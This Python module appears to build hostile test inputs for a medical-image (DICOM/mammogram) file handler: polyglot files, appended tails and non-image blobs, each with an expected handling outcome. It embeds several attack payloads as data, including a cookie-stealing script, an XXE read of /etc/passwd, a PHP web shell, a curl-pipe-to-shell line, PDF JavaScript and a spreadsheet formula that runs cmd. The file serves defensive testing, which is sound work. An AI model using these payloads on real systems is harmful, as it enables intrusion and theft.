"""Files that are two things at once, and things that are no images at all."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from dataclasses import replace

from hostile.archives import zipped
from hostile.clean import PLAIN, picture
from hostile.files import HARMLESS, MUST_FAIL, MUST_STOP_AT_THE_DOOR, SAME_OR_REFUSED, HostileFile
from hostile.parts import parts

_SCRIPT = b"<script>alert(document.cookie)</script>"
_PE = b"MZ" + bytes(58) + struct.pack("<L", 0x80) + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21This program cannot be run"
_PREAMBLES = {
    "pe": _PE,
    "elf": b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHL", 2, 62, 1),
    "macho": b"\xcf\xfa\xed\xfe\x07\0\0\1",
    "tiff_little": b"II*\0\x08\0\0\0\0\0\0\0\0\0",
    "tiff_big": b"MM\0*\0\0\0\x08\0\0",
    "html": b"<html><body onload=alert(1)>" + _SCRIPT,
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "xml": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
    "zip": b"PK\x03\x04" + bytes(26),
    "gif": b"GIF89a\1\0\1\0",
    "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF",
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "shell": b"#!/bin/sh\ncurl http://example.org/x|sh\nexit\n",
    "batch": b"@echo off\r\nstart calc.exe\r\n",
    "java": b"\xca\xfe\xba\xbe\0\0\0\x34",
    "gzip": b"\x1f\x8b\x08\0\0\0\0\0",
    "formula": b"=cmd|' /C calc'!A0",
    "all_ff": b"\xff" * 128,
    "dicm_twice": b"\0" * 124 + b"DICM",
}


def polyglot_files(seed: int) -> Iterator[HostileFile]:
    del seed
    for name, head in _PREAMBLES.items():
        yield HostileFile(
            name=f"polyglot/preamble_{name}",
            allowed=HARMLESS,
            make=lambda head=head: replace(parts(), preamble=head.ljust(128, b"\0")[:128] + b"DICM").to_bytes(),
            twin=PLAIN,
            file_name=f"{name}.html",
        )
    tails = {"html": _SCRIPT * 9, "zip": zipped({"a.txt": b"x"}), "pe": _PE, "php": b"<?php system($_GET[0]);"}
    for kind in ("png", "jpeg", "tiff"):
        for name, tail in tails.items():
            yield HostileFile(
                name=f"polyglot/{kind}_with_{name}_behind",
                allowed=SAME_OR_REFUSED,
                make=lambda kind=kind, tail=tail: picture(kind) + tail,
                file_name=f"x.{kind}.{name}",
                twin=f"clean/{kind}",
            )
    for name, tail in tails.items():
        yield HostileFile(
            name=f"polyglot/dicom_with_{name}_behind",
            allowed=SAME_OR_REFUSED,
            make=lambda tail=tail: parts().to_bytes() + tail,
            file_name=f"x.dcm.{name}",
            twin=PLAIN,
        )
    yield from _no_images()


def _no_images() -> Iterator[HostileFile]:
    whole = parts().to_bytes()
    for name, body in {
        "empty": b"",
        "one_byte": b"\0",
        "pdf": b"%PDF-1.7\n" + bytes(4000),
        "elf": b"\x7fELF" + bytes(4000),
        "pe": _PE + bytes(4000),
        "html": b"<html>" + _SCRIPT * 99,
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'>" + _SCRIPT + b"</svg>" + bytes(200),
        "svg_behind_xml": b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- -->\n<svg onload='alert(1)'/>" + b" " * 300,
        "gif": b"GIF89a" + bytes(300),
        "webp": b"RIFF\x24\0\0\0WEBPVP8 " + bytes(300),
        "text": b"mammogram " * 500,
        "zeros": bytes(5000),
        "ones": b"\xff" * 5000,
        "json": b'{"00100010":{"vr":"PN"}}' * 30,
        "shifted_dicom": b"\0" + whole,
        "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\3" + bytes(400),
    }.items():
        yield HostileFile(
            name=f"no_image/{name}",
            allowed=MUST_STOP_AT_THE_DOOR,
            make=lambda body=body: body,
            file_name="mammogram.dcm",
        )
    for name, body in {
        "magic_alone": bytes(128) + b"DICM",
        "magic_and_zeros": bytes(128) + b"DICM" + bytes(4000),
        "magic_and_noise": bytes(128) + b"DICM" + bytes(range(256)) * 8,
        "magic_and_script": bytes(128) + b"DICM" + _SCRIPT * 40,
        "group_8_and_zeros": b"\x08\0\x16\0UI\x04\x001.2\0" + bytes(300),
        "png_signature_alone": b"\x89PNG\r\n\x1a\n",
        "jpeg_signature_alone": b"\xff\xd8\xff",
        "tiff_signature_alone": b"II*\0",
        "big_tiff_signature_alone": b"II+\0\x08\0\0\0",
    }.items():
        yield HostileFile(name=f"no_image/{name}", allowed=MUST_FAIL, make=lambda body=body: body)
